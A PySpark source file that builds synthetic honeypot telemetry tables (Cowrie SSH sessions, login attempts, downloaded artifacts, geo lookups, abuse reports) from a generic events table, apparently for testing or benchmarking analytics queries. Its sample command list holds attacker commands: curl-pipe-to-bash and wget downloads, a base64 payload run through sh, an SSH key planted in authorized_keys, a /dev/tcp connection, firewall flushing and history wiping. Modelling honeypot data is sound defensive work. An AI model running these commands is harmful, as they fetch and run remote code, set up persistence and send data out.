"""The telemetry tables that the queries run on, projected from the provided tables by one SQL text."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession

#: "Now" of all windowed queries; it is always passed, never read from a clock.
NOW = "2024-01-31 00:00:00"

EVENTS_SQL = r"""
WITH base AS (
  SELECT event_id, ts, user_id AS u, event_type, CAST(regexp_extract(props, '[0-9]+', 0) AS INT) AS k FROM events
), kinds AS (
  SELECT *,
    CASE WHEN u % 3 = 0 THEN 'journal' ELSE 'cowrie' END AS source,
    CASE WHEN u % 3 = 0 THEN
           CASE event_type WHEN 'click' THEN 'failed_password' WHEN 'signup' THEN 'accepted'
                           WHEN 'purchase' THEN 'failed_publickey' ELSE 'invalid_user' END
         ELSE
           CASE WHEN event_type = 'view' THEN CASE WHEN k % 4 = 0 THEN 'client_version' ELSE 'connect' END
                WHEN event_type = 'click' THEN 'failed_password'
                WHEN event_type = 'signup' THEN 'accepted'
                WHEN event_type = 'purchase' THEN 'command'
                WHEN k % 3 = 0 THEN 'tunnel' WHEN k % 3 = 1 THEN 'file_download' ELSE 'file_upload' END
    END AS kind
  FROM base
), cols AS (
  SELECT event_id AS id, ts, source, kind,
    CASE WHEN k % 9 = 8 THEN concat('100.64.0.', CAST(u AS STRING))
         ELSE concat('45.67.', CAST(u % 7 AS STRING), '.', CAST(u AS STRING)) END AS src_ip,
    1024 + k AS src_port,
    CASE WHEN kind IN ('failed_password','failed_publickey','invalid_user','accepted')
         THEN split_part('root~admin~user~test~oracle~postgres~solana~miner~deploy~k8s-ops~zhangwei~?', '~', CAST((k + u) % 12 + 1 AS INT))
         ELSE '' END AS username,
    CASE WHEN source = 'cowrie' AND kind IN ('failed_password','accepted')
         THEN split_part('123456~admin~toor~password~qwerty~raspberry', '~', CAST(k % 6 + 1 AS INT)) ELSE '' END AS password,
    CASE WHEN source = 'cowrie' THEN concat('s', CAST(u AS STRING), '-', CAST(CAST(ts AS DATE) AS STRING)) ELSE '' END AS session_id,
    CASE WHEN source = 'cowrie' AND u % 5 <> 0 THEN concat('hassh', CAST(u % 11 AS STRING)) ELSE '' END AS hassh,
    CASE WHEN source = 'cowrie' THEN split_part('SSH-2.0-libssh_0.9.6~SSH-2.0-Go~SSH-2.0-OpenSSH_9.9', '~', CAST(u % 3 + 1 AS INT)) ELSE '' END AS ssh_client,
    CASE WHEN kind = 'command' THEN split_part(
      'uname -a~whoami~cat /etc/passwd~wget http://a.example.net/x.sh -O /tmp/x~curl -sL http://198.51.100.7/m | bash~crontab -l~history -c~iptables -F~netstat -tunlp~ls -la /home/user~id~chmod +x /tmp/x~echo d2hvYW1pICYmIHVuYW1lIC1h | base64 -d | sh~echo key >> /root/.ssh/authorized_keys~nslookup pool.example.org~cat > /dev/tcp/203.0.113.9/4444~printf ok~cd /var/tmp; ./payload~echo deadbeefdeadbeef12~ps aux',
      '~', CAST(k % 20 + 1 AS INT))
         WHEN kind = 'file_download' THEN concat('http://dl', CAST(k % 6 AS STRING), '.example.net/p', CAST(k % 10 AS STRING))
         ELSE '' END AS command,
    CASE WHEN kind IN ('file_download','file_upload') THEN lpad(CAST(k % 10 AS STRING), 64, '0') ELSE '' END AS sha256,
    CASE WHEN kind = 'tunnel' THEN concat('192.0.2.', CAST(k % 8 AS STRING)) ELSE '' END AS dst_ip,
    CASE WHEN kind = 'tunnel' THEN CASE WHEN k % 2 = 0 THEN 443 ELSE 25 END ELSE 0 END AS dst_port
  FROM kinds
)
SELECT *,
  CASE WHEN src_ip LIKE '100.64.%' THEN ''
       WHEN source = 'journal' THEN concat('journal:', src_ip)
       ELSE concat('cowrie:', CASE WHEN hassh <> '' THEN hassh ELSE src_ip END) END AS actor_id
FROM cols
"""

ARTIFACTS_SQL = r"""
SELECT id, ts, src_ip, session_id, actor_id,
  CASE WHEN command <> '' THEN command ELSE concat('cowrie-event:', CAST(id AS STRING)) END AS url,
  CASE WHEN id % 4 = 0 THEN '' ELSE concat('/q/', sha256) END AS local_path, sha256, id % 5000 AS size_bytes,
  CASE WHEN kind = 'file_download' THEN 'quarantine_fetch' ELSE 'cowrie_file_upload' END AS origin,
  CASE WHEN id % 7 = 0 THEN 'failed' WHEN id % 7 = 1 THEN 'capturing' ELSE 'fetched' END AS status,
  ts AS created_at, id % 6 AS attempt_count
FROM hp WHERE sha256 <> ''
"""

GEO_SQL = r"""
SELECT DISTINCT src_ip AS ip, concat('{"ok":true,"country":"Land ', CAST(length(src_ip) % 5 AS STRING), '","cc":"L', CAST(length(src_ip) % 5 AS STRING), '"}') AS payload FROM hp WHERE src_ip <> '' AND src_ip NOT LIKE '%7'
"""

#: Payloads that were shared, and addresses that were reported.
LEDGER_SQL = r"""
SELECT sha256, CASE WHEN max(id) % 2 = 0 THEN 'inserted' ELSE 'known' END AS status, max(created_at) AS uploaded_at
FROM art WHERE sha256 LIKE '%1' OR sha256 LIKE '%4' OR sha256 LIKE '%7' GROUP BY sha256
"""

REPORTS_SQL = r"""
SELECT src_ip AS ip, max(ts) AS reported_at, count(*) AS n FROM hp WHERE src_ip LIKE '%3' OR src_ip LIKE '%8' GROUP BY src_ip
"""


def events(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The event table; Catalyst prunes what a query does not use down to the scan."""
    return spark.sql(EVENTS_SQL.replace("FROM events", "FROM {events}").replace("{k}", "k"), events=spark.read.parquet(f"{sf_dir}/events.parquet"))


def artifacts(spark: SparkSession, hp: DataFrame) -> DataFrame:
    return spark.sql(ARTIFACTS_SQL.replace("FROM hp", "FROM {hp}"), hp=hp)


def geo(spark: SparkSession, hp: DataFrame) -> DataFrame:
    return spark.sql(GEO_SQL.replace("{\"ok\"", "{{\"ok\"").replace("\"}'", "\"}}'").replace("FROM hp", "FROM {hp}"), hp=hp)


def ledger(spark: SparkSession, hp: DataFrame) -> DataFrame:
    return spark.sql(LEDGER_SQL.replace("FROM art", "FROM {art}"), art=artifacts(spark, hp))


def reports(spark: SparkSession, hp: DataFrame) -> DataFrame:
    return spark.sql(REPORTS_SQL.replace("FROM hp", "FROM {hp}"), hp=hp)
